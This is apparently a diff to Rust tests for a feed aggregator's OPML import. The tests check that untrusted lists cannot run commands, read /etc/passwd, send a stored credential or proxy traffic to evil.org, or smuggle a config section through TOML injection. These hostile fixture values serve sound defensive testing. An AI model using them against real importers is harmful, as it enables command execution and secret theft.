@@ -383,7 +383,19 @@ fn an_export_holds_every_setting_and_no_secret() {
 
     let other = folder("");
     std::fs::write(other.path().join("x.opml"), opml).unwrap();
-    assert_eq!(run(other.path(), &["import-opml", "x.opml"]).2, 0);
+    // It may come from anybody: what reaches into this machine needs a word more.
+    let (out, err, code) = run(other.path(), &["import-opml", "x.opml"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(out.starts_with("added 0 feeds; "), "{out}");
+    assert_eq!(
+        err,
+        "aggd: left out: A: it sends a secret of this machine; add --trusted if the file is your own\n"
+    );
+    let again = folder("");
+    std::fs::copy(other.path().join("x.opml"), again.path().join("x.opml")).unwrap();
+    let other = again;
+    let (_, err, code) = run(other.path(), &["import-opml", "--trusted", "x.opml"]);
+    assert_eq!((err.as_str(), code), ("", 0));
     let text = std::fs::read_to_string(other.path().join("feeds.toml")).unwrap();
     assert_eq!(
         text,
@@ -612,4 +624,37 @@ fn the_doctor_names_what_is_wrong_and_the_mend() {
         "{out}"
     );
     assert_eq!(code, 1);
+}
+
+#[test]
+fn a_list_of_somebody_else_cannot_reach_into_this_machine() {
+    let dir = folder("");
+    let settings = [
+        "{ kind = 'exec', command = ['touch', 'owned'] }",
+        "{ command = ['touch', 'owned'], url = 'x' }",
+        "{ kind = 'file', url = '/etc/passwd' }",
+        "{ url = 'https://evil.org/1', headers = { X = { credential = 'bank' } } }",
+        "{ url = 'https://evil.org/2', proxy = 'http://evil.org:1/' }",
+        "{ &quot;url = 'https://evil.org/3'\\n[control]\\nsocket = '/tmp/x'\\na&quot; = 1 }",
+        "{ url = 'https://evil.org/4', evry = 1 }",
+        "{ url = 'https://evil.org/5'",
+    ];
+    let mut opml = String::from("<opml><body>");
+    for one in settings {
+        opml.push_str(&format!(
+            "<outline text=\"E\" xmlUrl=\"https://evil.org/\" aggd:feed=\"{one}\"/>"
+        ));
+    }
+    opml.push_str("<outline text=\"Good\" xmlUrl=\"https://good.org/\" aggd:feed=\"{ id = 'good', url = 'https://good.org/', every = '1h' }\"/>");
+    std::fs::write(dir.path().join("in.opml"), opml).unwrap();
+    let (out, err, code) = run(dir.path(), &["import-opml", "in.opml"]);
+    assert!(
+        out.starts_with("added 1 feed; 0 were there already, 8 left out\n"),
+        "{out}{err}"
+    );
+    assert_eq!(code, 0);
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("feeds.toml")).unwrap(),
+        "[[feed]]\nid = \"good\"\nurl = 'https://good.org/'\nevery = '1h'\n"
+    );
 }
